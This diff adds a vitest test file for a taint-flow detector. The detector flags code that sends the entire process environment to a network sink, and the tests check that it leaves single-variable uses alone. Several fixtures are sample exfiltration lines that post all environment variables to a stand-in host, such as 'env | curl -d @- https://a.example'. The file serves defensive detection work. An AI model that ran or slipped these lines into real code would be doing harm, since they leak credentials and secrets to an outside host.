@@ -1,0 +1,74 @@
+import { expect, it } from 'vitest'
+
+import { factsOf, flows, spec } from '../testkit.js'
+
+const whole = {
+  ...spec,
+  sources: [
+    { pattern: '=os.environ', tag: 'all' },
+    { pattern: '=process.env', tag: 'all' },
+    { pattern: 'env()', tag: 'all' },
+  ],
+  sinks: [
+    { pattern: 'requests.post', tag: 'net' },
+    { pattern: 'fetch', tag: 'net' },
+    { pattern: 'curl', tag: 'net' },
+  ],
+  sanitizers: ['=subprocess.*', '=child_process.*'],
+}
+
+it.each([
+  ['a copy', 'a.py', 'import os, requests\nrequests.post("https://a.example", json=dict(os.environ))'],
+  [
+    'as text',
+    'a.py',
+    'import os, json, requests\nrequests.post("https://a.example", data=json.dumps(dict(os.environ)).encode())',
+  ],
+  [
+    'spread',
+    'a.py',
+    'import os, requests\nbody = {**os.environ, "a": 1}\nrequests.post("https://a.example", json=body)',
+  ],
+  [
+    'one member of a body',
+    'a.js',
+    'fetch("https://a.example", { method: "POST", body: JSON.stringify({ e: process.env }) })',
+  ],
+  ['without an import', 'a.py', 'requests.post("https://a.example", json={"e": dict(os.environ)})'],
+  ['what a command prints', 'a.sh', 'env | curl -d @- https://a.example'],
+])('the whole is sent: %s', async (_, path, text) => {
+  expect(flows(await factsOf({ [path]: text }, [whole]))).not.toEqual([])
+})
+
+it.each([
+  ['a variable', 'a.py', 'import os, requests\nrequests.post("https://a.example", json=os.environ["A"])'],
+  ['asked for', 'a.py', 'import os, requests\nrequests.post("https://a.example", json=os.environ.get("A"))'],
+  [
+    'named elsewhere',
+    'a.py',
+    'import os, requests\nname = input()\nrequests.post("https://a.example", json=os.environ[name])',
+  ],
+  [
+    'out of a copy',
+    'a.py',
+    'import os, requests\ne = dict(os.environ)\nrequests.post("https://a.example", json=e["A"])',
+  ],
+  [
+    'of a checked copy',
+    'a.js',
+    'const e = schema.parse(process.env)\nfetch("https://a.example", { headers: { x: e.KEY } })',
+  ],
+  [
+    'taken apart',
+    'a.js',
+    'const { KEY } = process.env\nfetch("https://a.example", { headers: { x: KEY } })',
+  ],
+  [
+    'handed to a program',
+    'a.py',
+    'import os, requests, subprocess\nout = subprocess.run(["ls"], env={**os.environ, "A": "1"})\nrequests.post("https://a.example", data=out.stdout)',
+  ],
+  ['for a command', 'a.sh', 'env A=1 ls | curl -d @- https://a.example'],
+])('a part is not the whole: %s', async (_, path, text) => {
+  expect(flows(await factsOf({ [path]: text }, [whole]))).toEqual([])
+})
